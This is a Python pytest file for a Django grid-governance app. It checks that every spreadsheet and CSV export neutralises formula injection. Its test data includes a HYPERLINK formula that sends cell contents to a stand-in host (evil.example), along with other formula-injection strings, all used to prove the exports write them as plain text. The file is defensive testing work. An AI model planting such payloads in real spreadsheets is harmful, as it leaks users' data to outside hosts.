"""Exports are neutral: every .xlsx the product writes, produced with hostile values planted in the text a
grid worker or a resident can type, opened with openpyxl (data_only=False): no cell is a formula, and the
planted text reads back exactly. Every workbook and CSV goes through core.sheets (checked in the source)."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gridgov.core import sheets
from gridgov.insights.reports import render_report_xlsx
from gridgov.residents import excel
from gridgov.residents.models import Household, ImportJob, Resident
from gridgov.workforce.excel import assessment_bytes

pytestmark = pytest.mark.django_db
GRIDGOV = Path(__file__).resolve().parents[2] / "gridgov"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=1+1", "+1+1", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


def cells(content: bytes) -> list:  # type: ignore[type-arg]
    wb = load_workbook(io.BytesIO(content), data_only=False)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def assert_neutral(content: bytes, planted: list[str]) -> None:
    all_cells = cells(content)
    formulas = [(c.coordinate, c.value) for c in all_cells if c.data_type == "f"]
    assert formulas == []
    values = {c.value for c in all_cells}
    for text in planted:
        # written as text, exactly (XML reads a bare carriage return back as a line feed)
        assert text.replace("\r", "\n") in values, text


def test_the_helper_is_what_makes_it_neutral():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1"])  # type: ignore[union-attr]
    raw = io.BytesIO()
    wb.save(raw)
    assert [c.data_type for c in cells(raw.getvalue())] == ["f"]  # openpyxl alone writes a formula
    assert_neutral(sheets.workbook_bytes(wb), ["=1+1"])
    assert [sheets.csv_text(v) for v in ("=1+1", "-3", "@x", "\tx", "正常", 5)] == \
        ["'=1+1", "'-3", "'@x", "'\tx", "正常", "5"]


def test_household_export_writes_planted_formulas_as_text(world, ledger, login):
    Household.dangerously_unscoped.filter(pk=ledger.a1.pk).update(address=HOSTILE[0], house_number="+1+1")
    Resident.dangerously_unscoped.filter(pk=ledger.wang_wei.pk).update(name="=1+1", away_place="@SUM(1,1)")
    response = login(world.zhang_wei).get(reverse("staff:household_export"))
    assert response.status_code == 200
    assert_neutral(response.content, [HOSTILE[0], "+1+1", "=1+1", "@SUM(1,1)"])


def test_import_error_report_writes_planted_formulas_as_text(world):
    job = ImportJob(unit=world.village, errors=[{"row": i + 2, "column": "地址", "value": v, "reason": "=原因"}
                                                for i, v in enumerate(HOSTILE)])
    assert_neutral(excel.error_report_bytes(job), [*HOSTILE, "=原因"])


def test_template_has_no_formula():
    assert_neutral(excel.template_bytes(), [])


def test_assessment_workbook_writes_planted_formulas_as_text():
    line = SimpleNamespace(rank=1, name="=1+1", grid_name="-2+3", points=5, items_due=1, items_on_time=1,
                           rate_text="100%", score=Decimal("85"), band="commended")
    result = SimpleNamespace(unit=SimpleNamespace(name="@SUM(1,1)"), month=dt.date(2026, 3, 1),
                             setting=SimpleNamespace(base=80, duty_weight=10, floor=60), workers=[line], grids=[line])
    content = assessment_bytes(result, watermark="=导出人", published=True)  # type: ignore[arg-type]
    assert_neutral(content, ["=1+1", "-2+3", "=导出人"])


def test_report_workbook_writes_planted_formulas_as_text():
    unit = SimpleNamespace(name="-2+3")
    case = SimpleNamespace(number="=1+1", title=HOSTILE[0], category=SimpleNamespace(name="@SUM(1,1)"), unit=unit,
                           holder_department=None, holder_unit=unit, resolve_due=None)
    board = SimpleNamespace(period=SimpleNamespace(label="2026年3月"), previous=SimpleNamespace(label="2026年2月"),
                            values=[], ranking=[], circular=[], by_category=[("+1+1", 3)], worst_overdue=[case])
    content = render_report_xlsx({"run": SimpleNamespace(title="\t=1+1"), "board": board,
                                  "work": [("=1+1", "-1", "+1", "@x")]})
    assert_neutral(content, ["=1+1", HOSTILE[0], "@SUM(1,1)", "-2+3", "+1+1", "\t=1+1", "@x"])


def test_every_spreadsheet_and_csv_the_product_writes_goes_through_the_helper():
    """A workbook saved, or a CSV written, anywhere but core/sheets.py would skip the neutralisation."""
    offenders = []
    for path in GRIDGOV.rglob("*.py"):
        if (path.name == "sheets.py" and path.parent.name == "core") or "migrations" in path.parts:
            continue
        text = path.read_text()
        if "openpyxl" in text and re.search(r"\bwb\.save\(|\.save\(buf", text):
            offenders.append(str(path))
        if re.search(r"csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path))
        if "openpyxl" in text and "Workbook(" in text and "sheets.workbook_bytes" not in text:
            offenders.append(str(path))
    assert offenders == []
